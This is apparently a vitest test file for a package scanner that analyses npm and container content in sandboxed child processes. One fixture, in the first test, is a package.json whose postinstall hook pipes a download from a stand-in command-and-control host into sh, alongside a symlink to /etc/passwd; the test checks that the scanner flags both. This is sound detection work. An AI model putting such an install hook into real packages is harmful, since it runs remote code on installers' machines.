import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { availableParallelism, loadavg, tmpdir } from 'node:os'
import { join } from 'node:path'
import { monitorEventLoopDelay } from 'node:perf_hooks'
import { Readable } from 'node:stream'
import { text } from 'node:stream/consumers'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, expect, onTestFinished, test } from 'vitest'
import { AnalysisChild } from '../../../../src/modules/scanning/analysis/analysis-child.ts'
import type { AnalysisInput } from '../../../../src/modules/scanning/analysis/analysis-input.ts'
import { AnalysisRunner } from '../../../../src/modules/scanning/analysis/analysis-runner.ts'
import { detectIsolation, spawnIsolated } from '../../../../src/modules/scanning/analysis/isolation.ts'
import { reportLimits } from '../../../../src/modules/scanning/analysis/report-lines.ts'
import { ReportReader } from '../../../../src/modules/scanning/analysis/report-reader.ts'
import type { AnalysisReport } from '../../../../src/modules/scanning/analysis.contract.ts'
import { analyseHere } from './analyse-here.ts'
import { streamOf, tarOf, tgzOf } from './pack-archive.ts'

// A folder of our own for temporary files: others on this machine analyse too.
const temporary = realpathSync(mkdtempSync(join(tmpdir(), 'gati-runner-test-')))
process.env['TMPDIR'] = temporary
afterAll(() => rmSync(temporary, { recursive: true }))

const runner = new AnalysisRunner({ maxProcesses: 2, timeoutMs: 30_000 })
const never = new AbortController().signal
const metadata = { name: 'acme-thing', version: '1.0.0' }
const privateFolders = () => readdirSync(temporary)

function inputOf(open: () => Promise<Readable>, kind: AnalysisInput['kind'] = 'npm'): AnalysisInput {
  return { kind, layers: [{ mediaType: 'application/octet-stream', sizeBytes: 1, open }], metadata }
}

test('D-36 the child says what would be said here, and leaves nothing behind', async () => {
  const before = privateFolders()
  const bytes = await tgzOf([
    {
      name: 'package/package.json',
      content: '{"name":"acme-thing","version":"1.0.0","scripts":{"postinstall":"curl https://c2.example.invalid/x | sh"}}',
    },
    { name: 'package/link', type: '2', linkName: '/etc/passwd' },
  ])
  const report = await runner.analyse(
    inputOf(async () => streamOf(bytes)),
    never,
  )
  expect(report.verdict.level).toBe('malicious')
  expect(report).toEqual({ ...(await analyseHere({ kind: 'npm', blobs: [{ bytes }] })), components: report.components })
  const suppressing = new AnalysisRunner({ maxProcesses: 1, timeoutMs: 30_000, suppressedRules: ['npm/install-script-downloads'] })
  const lenient = await suppressing.analyse(
    inputOf(async () => streamOf(bytes)),
    never,
  )
  expect(lenient.findings.map(({ rule }) => rule)).toEqual(['archive/escaping-link'])
  expect(privateFolders()).toEqual(before)
})

test('names that the configuration protects have no look-alikes, and the log tells once what children are kept from', async () => {
  const told: unknown[] = []
  const log = { info: (...line: unknown[]) => void told.push(line) }
  await using protecting = new AnalysisRunner({ maxProcesses: 1, timeoutMs: 30_000, popularNames: ['acme-thimg'], log })
  const bytes = await tgzOf([{ name: 'package/package.json', content: '{"name":"acme-thing","version":"1.0.0"}' }])
  const asked = inputOf(async () => streamOf(bytes))
  expect((await protecting.analyse(asked, never)).findings.map(({ rule }) => rule)).toEqual(['npm/typosquat'])
  expect((await protecting.analyse({ ...asked, metadata: { ...metadata, name: 'other-name' } }, never)).findings).toEqual([])
  expect(told).toEqual([[{ network: expect.any(String), resourceLimits: expect.any(Boolean) }, 'content is analysed in child processes']])
})

test('D-36 where the machine gives neither namespaces nor limits, the child works without', async () => {
  const bytes = await tgzOf([{ name: 'package/package.json', content: '{}' }])
  const bare = await AnalysisChild.start({ network: 'patched', resourceLimits: false, prefix: [] })
  onTestFinished(() => bare.end())
  const asked = inputOf(async () => streamOf(bytes))
  const report = await bare.run(asked, never)
  expect(await bare.run(asked, never)).toEqual(report)
  expect(report).toMatchObject({ filesSeen: 1, verdict: { level: 'clean' } })
})

test('D-36 the child has no environment, no files but its own, no network and no children', async () => {
  const folder = realpathSync(mkdtempSync(join(tmpdir(), 'gati-analysis-test-')))
  const server = createServer((socket) => socket.destroy()).listen(0, '127.0.0.1')
  onTestFinished(() => {
    server.close()
    rmSync(folder, { recursive: true })
  })
  await once(server, 'listening')
  const { port } = server.address() as { port: number }
  const script = join(folder, 'probe.mjs')
  writeFileSync(script, probe(port))
  const isolation = await detectIsolation()
  const child = spawnIsolated(isolation, folder, script)
  child.stdin?.end()
  const said = JSON.parse(await text(child.stdout as Readable)) as Record<string, string>
  expect(said).toMatchObject({
    environment: '',
    reads: 'ERR_ACCESS_DENIED',
    writes: 'ERR_ACCESS_DENIED',
    spawns: 'ERR_ACCESS_DENIED',
    threads: 'ERR_ACCESS_DENIED',
    folder,
    own: 'fine',
    pollutes: 'TypeError',
    patches: 'TypeError',
  })
  if (isolation.network === 'namespace') expect(said['connects']).toBe('ENETUNREACH')
})

const probe = (port: number): string => `
import { readFileSync, writeFileSync } from 'node:fs'
import { spawnSync } from 'node:child_process'
import { Worker } from 'node:worker_threads'
import net from 'node:net'
const attempt = (work) => { try { work(); return 'fine' } catch (error) { return error.code ?? error.name } }
const connects = await new Promise((done) => net.connect(${port}, '127.0.0.1').on('connect', () => done('fine')).on('error', (error) => done(error.code)))
console.log(JSON.stringify({
  environment: Object.keys(process.env).join(), reads: attempt(() => readFileSync('/etc/passwd')), writes: attempt(() => writeFileSync('${tmpdir()}/escaped', '')),
  spawns: attempt(() => spawnSync('true')), threads: attempt(() => new Worker('1', { eval: true })), folder: process.cwd(), own: attempt(() => writeFileSync('own', '')), connects,
  pollutes: attempt(() => { Object.prototype.polluted = 1 }), patches: attempt(() => { Array.prototype.map = () => [] }),
}))`

test('D-36 an analysis ends with its time, and with the signal of whoever asked', async () => {
  const before = privateFolders()
  const endless = async () => Readable.from(dripping())
  const impatient = new AnalysisRunner({ maxProcesses: 1, timeoutMs: 700 })
  await expect(impatient.analyse(inputOf(endless), never)).rejects.toMatchObject({ name: 'AnalysisFailed', reason: 'timeout' })
  const asker = new AbortController()
  const asked = runner.analyse(inputOf(endless), asker.signal)
  setTimeout(() => asker.abort(new Error('nobody wants it')), 200)
  await expect(asked).rejects.toThrow('nobody wants it')
  expect(privateFolders()).toEqual(before)
})

async function* dripping(): AsyncGenerator<Buffer, void, undefined> {
  for (;;) {
    yield Buffer.alloc(10)
    await sleep(20)
  }
}

test('a blob that cannot be read is no verdict', async () => {
  const missing = inputOf(() => Promise.reject(new Error('the blob is gone')))
  await expect(runner.analyse(missing, never)).rejects.toMatchObject({ reason: 'unreadable' })
  const broken = inputOf(async () => Readable.from(failing()))
  await expect(runner.analyse(broken, never)).rejects.toMatchObject({ reason: 'unreadable', message: expect.stringContaining('the disk') })
})

async function* failing(): AsyncGenerator<Buffer, void, undefined> {
  yield Buffer.alloc(1000)
  throw new Error('the disk is gone')
}

test('no more children at a time than there may be; one that waits may leave', async () => {
  const single = new AnalysisRunner({ maxProcesses: 1, timeoutMs: 30_000 })
  const bytes = await tgzOf([{ name: 'package/package.json', content: '{}' }])
  let open = 0
  let most = 0
  const counted = inputOf(async () => {
    open += 1
    most = Math.max(most, open)
    return streamOf(bytes).on('close', () => {
      open -= 1
    })
  })
  const leaver = new AbortController()
  const all = [single.analyse(counted, never), single.analyse(counted, leaver.signal), single.analyse(counted, never)]
  leaver.abort(new Error('left'))
  const settled = await Promise.allSettled(all)
  expect(settled.map(({ status }) => status)).toEqual(['fulfilled', 'rejected', 'fulfilled'])
  expect(most).toBe(1)
})

test('D-36 500 MB stream through while the loop of this process keeps its p99 under 20 ms', async () => {
  const isQuiet = (loadavg()[0] ?? 0) < availableParallelism() / 2
  const chunk = randomBytes(5_000_192)
  const [header = Buffer.alloc(0)] = [(await tarOf([{ name: 'layer/file', content: '', statedBytes: chunk.length }])).subarray(0, 512)]
  const layer = async () => Readable.from(largeTar(header, chunk), { objectMode: false, highWaterMark: 262_144 })
  let report: AnalysisReport | undefined
  const delay = await loopDelay(async () => {
    report = await runner.analyse(inputOf(layer, 'oci'), never)
  })
  console.log(`500 MB: p99 of the loop ${delay.wallMs.toFixed(1)} ms, of which ours ${delay.ownMs.toFixed(1)} ms`)
  expect(report?.filesSeen).toBe(100)
  expect(report?.bytesSeen).toBe(100 * chunk.length)
  expect(delay.ownMs).toBeLessThan(20)
  // The clock on the wall says the same where nobody else wants the processors.
  if (isQuiet) expect(delay.wallMs).toBeLessThan(20)
})

/** p99 of what passes between two turns of the loop: by the clock, and of the processor's time that this thread took. */
async function loopDelay(work: () => Promise<unknown>): Promise<{ wallMs: number; ownMs: number }> {
  const wall = monitorEventLoopDelay({ resolution: 5 })
  const own: number[] = []
  let before = process.threadCpuUsage()
  const sampling = setInterval(() => {
    const { user, system } = process.threadCpuUsage(before)
    own.push((user + system) / 1000)
    before = process.threadCpuUsage()
  }, 5)
  wall.enable()
  await work()
  wall.disable()
  clearInterval(sampling)
  own.sort((a, b) => a - b)
  return { wallMs: wall.percentile(99) / 1e6, ownMs: own[Math.floor(own.length * 0.99)] ?? Number.NaN }
}

function* largeTar(header: Buffer, content: Buffer): Generator<Buffer, void, undefined> {
  for (let count = 0; count < 100; count += 1) {
    yield header
    for (let at = 0; at < content.length; at += 262_144) yield content.subarray(at, at + 262_144)
  }
  yield Buffer.alloc(1024)
}

test.each([
  ['no JSON', 'hello\n'],
  ['an unknown line', '{"other":1}\n'],
  ['an unknown category', '{"finding":{"rule":"a/b","category":"nice","severity":"low","confidence":1,"path":"","message":""}}\n'],
  ['a confidence above one', '{"end":{"verdict":{"level":"clean","confidence":2},"filesSeen":0,"bytesSeen":0}}\n'],
  ['a line behind the end', '{"end":{"verdict":{"level":"clean","confidence":0},"filesSeen":0,"bytesSeen":0}}\n{"gap":"x"}\n'],
  [
    'a line behind all',
    '{"end":{"verdict":{"level":"clean","confidence":0},"filesSeen":0,"bytesSeen":0}}\n{"ready":{"cpuMs":1}}\n{"gap":"x"}\n',
  ],
  ['ready before the end', '{"ready":{"cpuMs":1}}\n'],
  ['a line without an end', 'x'.repeat(reportLimits.lineBytes + 1)],
  ['more gaps than agreed', '{"gap":"x"}\n'.repeat(reportLimits.gaps + 1)],
])('D-36 what the child says is not believed: %s', (_what, said) => {
  expect(() => new ReportReader().push(said)).toThrow()
})

test('a report without its end is none', () => {
  const reader = new ReportReader()
  reader.push('{"gap":"x"}\n')
  expect(reader.report()).toBeUndefined()
  reader.push('{"end":{"verdict":{"level":"clean","confidence":0},"filesSeen":0,"bytesSeen":0}}\n')
  expect(reader.report()).toBeUndefined()
  reader.push('{"ready":{"cpuMs":7}}\n')
  expect(reader.report()?.gaps).toEqual(['x'])
  expect(reader.cpuMs).toBe(7)
})
